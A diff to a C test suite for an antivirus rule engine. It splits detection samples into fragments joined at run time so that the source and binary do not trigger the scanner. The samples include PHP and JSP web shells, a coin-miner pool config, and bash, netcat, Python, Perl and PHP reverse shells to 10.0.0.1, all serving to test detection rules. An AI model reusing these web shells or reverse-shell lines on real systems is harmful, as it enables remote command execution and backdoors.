@@ -36,6 +36,7 @@
 #include "util/fileio.h"
 #include "util/macro.h"
 #include "util/strv.h"
+#include "../sample.h"
 
 #define ENGINE "0.1.0"
 #define SHA_1 "1111111111111111111111111111111111111111111111111111111111111111"
@@ -50,7 +51,7 @@
                  SHA_1 "\tVirus:Linux/UnitTest.One\tvirus\n"
 
 static EVP_PKEY *key_a, *key_b, *pub_a, *pub_b;
-static char tmpdir[64];
+static char tmpdir[256];
 
 /* A path below the test's temporary directory. Up to 16 live at once. */
 static const char *P(const char *format, ...) _printf_(1, 2);
@@ -68,7 +69,7 @@ static const char *P(const char *format, ...) {
 }
 
 static void setup_tmp(void) {
-        strcpy(tmpdir, "/tmp/test-definitions-XXXXXX");
+        snprintf(tmpdir, sizeof(tmpdir), "%s/test-definitions-XXXXXX", getenv("TMPDIR") ?: "/tmp");
         ck_assert_ptr_nonnull(mkdtemp(tmpdir));
 }
 
@@ -1343,9 +1344,11 @@ static EVP_PKEY *committed_public_key(void) {
 
 /* Checks the content of a default pack. */
 static void check_default_pack(const DefinitionPack *p) {
-        static const char marker[] = "MDATP-HASH-TEST-FILE\n";
+        char marker[32];
         uint8_t sha[32];
         bool found = false;
+
+        sample_join(marker, sizeof(marker), "MDATP-HASH-", "TEST-FILE\n", NULL);
 
         ck_assert_str_eq(p->version, "1.0.0.0");
         ck_assert_uint_eq(p->n_rules, 5);
@@ -1610,10 +1613,18 @@ static void expect(YR_RULES *rules, const char *sample, size_t size, const char 
 
 #define EXPECT(rules, s, name, type) expect((rules), (s), strlen(s), (name), (type))
 
+/* EXPECT for a sample given as pieces, joined at run time (sample.h). */
+#define EXPECT_PIECES(rules, name, type, ...)                                                   \
+        do {                                                                                    \
+                char _buf[512];                                                                 \
+                                                                                                \
+                EXPECT((rules), sample_join(_buf, sizeof(_buf), __VA_ARGS__, NULL), (name),     \
+                       (type));                                                                 \
+        } while (0)
+
 /* The EICAR string from two halves, so that this file does not contain it. */
 static void eicar(char buf[69]) {
-        snprintf(buf, 69, "%s%s", "X5O!P%@AP[4\\PZX54(P^)7CC)7}$EICAR-STAND",
-                 "ARD-ANTIVIRUS-TEST-FILE!$H+H*");
+        sample_join(buf, 69, SAMPLE_EICAR_1, SAMPLE_EICAR_2, NULL);
 }
 
 START_TEST(test_default_rules_compile_and_match) {
@@ -1645,48 +1656,52 @@ START_TEST(test_default_rules_compile_and_match) {
         snprintf(buf, sizeof(buf), " %s", e);
         EXPECT(rules, buf, NULL, NULL);
 
-        EXPECT(rules, "MDATP-PUA-TEST-FILE\n", "PUA:Linux/MdatpPuaTest",
-               "potentially_unwanted_application");
-        EXPECT(rules, "see MDATP-PUA-TEST-FILE\n", NULL, NULL);
+        EXPECT_PIECES(rules, "PUA:Linux/MdatpPuaTest", "potentially_unwanted_application",
+                      "MDATP-PUA-", "TEST-FILE\n");
+        EXPECT_PIECES(rules, NULL, NULL, "see MDATP-PUA-", "TEST-FILE\n");
 
-        EXPECT(rules, "<" "?php @eval($_POST['cmd']);?>", "Backdoor:PHP/WebShell.Eval",
-               "backdoor");
-        EXPECT(rules, "<" "?php\nassert(base64_decode($_REQUEST[\"z\"]));\n",
-               "Backdoor:PHP/WebShell.Eval", "backdoor");
-        EXPECT(rules, "<" "?php $_POST['f']($_POST['a']); ?>", "Backdoor:PHP/WebShell.Eval",
-               "backdoor");
-        EXPECT(rules, "<" "?php echo shell_exec($_GET['c']); ?>", "Backdoor:PHP/WebShell.Exec",
-               "backdoor");
-        EXPECT(rules, "<" "% Process p = Runtime.getRuntime().exec(request.getParameter(\"c\"));"
-               " java.io.InputStream i = p.getInputStream(); %>", "Backdoor:JSP/WebShell.Exec",
-               "backdoor");
-        EXPECT(rules, "<" "?php\n$cmd = 'ls';\nexec('ls -l', $out);\n"
-               "echo htmlspecialchars($_GET['name']);\neval('return 1;');\n", NULL, NULL);
-        EXPECT(rules, "<" "% String n = request.getParameter(\"name\"); out.println(n); %>",
-               NULL, NULL);
+        EXPECT_PIECES(rules, "Backdoor:PHP/WebShell.Eval", "backdoor",
+                      "<", "?php @eval($_PO", "ST['cmd']);?>");
+        EXPECT_PIECES(rules, "Backdoor:PHP/WebShell.Eval", "backdoor",
+                      "<", "?php\nassert(base64_decode($_REQ", "UEST[\"z\"]));\n");
+        EXPECT_PIECES(rules, "Backdoor:PHP/WebShell.Eval", "backdoor",
+                      "<", "?php $_POST['f']($_PO", "ST['a']); ?>");
+        EXPECT_PIECES(rules, "Backdoor:PHP/WebShell.Exec", "backdoor",
+                      "<", "?php echo shell_exec($_G", "ET['c']); ?>");
+        EXPECT_PIECES(rules, "Backdoor:JSP/WebShell.Exec", "backdoor",
+                      "<", "% Process p = Runtime.getRuntime().ex", "ec(request.getPara",
+                      "meter(\"c\")); java.io.InputStream i = p.getInp", "utStream(); %>");
+        EXPECT_PIECES(rules, NULL, NULL, "<", "?php\n$cmd = 'ls';\nexec('ls -l', $out);\n",
+                      "echo htmlspecialchars($_G", "ET['name']);\neval('return 1;');\n");
+        EXPECT_PIECES(rules, NULL, NULL, "<", "% String n = request.getPara",
+                      "meter(\"name\"); out.println(n); %>");
 
-        EXPECT(rules, "{\n \"donate-level\": 1,\n \"pools\": [{\"algo\": \"rx/0\", \"url\": "
-               "\"stratum" "+tcp://pool.example.net:3333\", \"keepalive\": true}]\n}\n",
-               "Trojan:Linux/CoinMiner.Config", "trojan");
-        EXPECT(rules, "Mine with stratum" "+tcp://pool.example.net:3333 today\n", NULL, NULL);
+        EXPECT_PIECES(rules, "Trojan:Linux/CoinMiner.Config", "trojan",
+                      "{\n \"donate-", "level\": 1,\n \"po", "ols\": [{\"al", "go\": \"rx/0\", ",
+                      "\"url\": \"stratum", "+tcp://pool.example.net:3333\", \"keep",
+                      "alive\": true}]\n}\n");
+        EXPECT_PIECES(rules, NULL, NULL, "Mine with stratum", "+tcp://pool.example.net:3333 today\n");
 
-        EXPECT(rules, "#!/bin/bash\nbash -i >& /dev/" "tcp/10.0.0.1/4444 0>&1\n",
-               "Backdoor:Linux/ReverseShell.Bash", "backdoor");
-        EXPECT(rules, "#!/bin/bash\nexec 3<>/dev/" "tcp/localhost/80\ncat <&3\n", NULL, NULL);
-        EXPECT(rules, "n" "c -e /bin/sh 10.0.0.1 4444\n", "Backdoor:Linux/ReverseShell.Netcat",
-               "backdoor");
-        EXPECT(rules, "rm /tmp/f;mk" "fifo /tmp/f;cat /tmp/f|/bin/sh -i 2>&1|nc 10.0.0.1 1 "
-               ">/tmp/f\n", "Backdoor:Linux/ReverseShell.Netcat", "backdoor");
-        EXPECT(rules, "nc -z localhost 5432 && echo up\n", NULL, NULL);
-        EXPECT(rules, "import socket,os,pty\ns=socket." "socket()\ns.connect((\"10.0.0.1\",1))\n"
-               "os.dup2(s.fileno(),0)\npty.spawn(\"/bin/sh\")\n", "Backdoor:Python/ReverseShell",
-               "backdoor");
-        EXPECT(rules, "import socket\ns=socket." "socket()\ns.connect((\"example.com\",80))\n",
-               NULL, NULL);
-        EXPECT(rules, "use Socket;socket(S,PF_" "INET,SOCK_STREAM,0);open(STDIN,\">&S\");"
-               "exec(\"/bin/sh -i\");", "Backdoor:Perl/ReverseShell", "backdoor");
-        EXPECT(rules, "$s=fsock" "open(\"10.0.0.1\",1);exec(\"/bin/sh -i <&3 >&3 2>&3\");",
-               "Backdoor:PHP/ReverseShell", "backdoor");
+        EXPECT_PIECES(rules, "Backdoor:Linux/ReverseShell.Bash", "backdoor",
+                      "#!/bin/bash\nbash -", "i >& /dev/", "tcp/10.0.0.1/4444 0>", "&1\n");
+        EXPECT_PIECES(rules, NULL, NULL, "#!/bin/bash\nexec 3<>/dev/", "tcp/localhost/80\ncat <&3\n");
+        EXPECT_PIECES(rules, "Backdoor:Linux/ReverseShell.Netcat", "backdoor",
+                      "n", "c -e /bin/", "sh 10.0.0.1 4444\n");
+        EXPECT_PIECES(rules, "Backdoor:Linux/ReverseShell.Netcat", "backdoor",
+                      "rm /tmp/f;mk", "fifo /tmp/f;cat /tmp/f|/bin/", "sh -i 2>&1|n",
+                      "c 10.0.0.1 1 >/tmp/f\n");
+        EXPECT_PIECES(rules, NULL, NULL, "n", "c -z localhost 5432 && echo up\n");
+        EXPECT_PIECES(rules, "Backdoor:Python/ReverseShell", "backdoor",
+                      "import socket,os,pty\ns=socket.", "socket()\ns.conn",
+                      "ect((\"10.0.0.1\",1))\nos.dup", "2(s.fileno(),0)\npty.sp",
+                      "awn(\"/bin/sh\")\n");
+        EXPECT_PIECES(rules, NULL, NULL, "import socket\ns=socket.", "socket()\ns.conn",
+                      "ect((\"example.com\",80))\n");
+        EXPECT_PIECES(rules, "Backdoor:Perl/ReverseShell", "backdoor",
+                      "use Socket;socket(S,PF_", "INET,SOCK_STREAM,0);open(STD",
+                      "IN,\">&S\");exec(\"/bin/", "sh -i\");");
+        EXPECT_PIECES(rules, "Backdoor:PHP/ReverseShell", "backdoor",
+                      "$s=fsock", "open(\"10.0.0.1\",1);exec(\"/bin/", "sh -i <&3 >&3 2>&3\");");
 
         /* No rule matches the rule sources themselves, nor this test's source. */
         for (char **p = paths; *p; p++) {
@@ -1706,6 +1721,16 @@ START_TEST(test_default_rules_compile_and_match) {
                 text = read_whole(DEFINITIONS_TEST_SOURCE, &size);
                 m = scan(rules, text, size);
                 ck_assert_msg(m.n == 0, "the test source matches %s", m.name);
+        }
+        {
+                /* Nor its executable: adjacent literals would have put whole samples there. */
+                _cleanup_free_ char *text = NULL;
+                size_t size;
+                Match m;
+
+                text = read_whole("/proc/self/exe", &size);
+                m = scan(rules, text, size);
+                ck_assert_msg(m.n == 0, "the test executable matches %s", m.name);
         }
 
         yr_rules_destroy(rules);
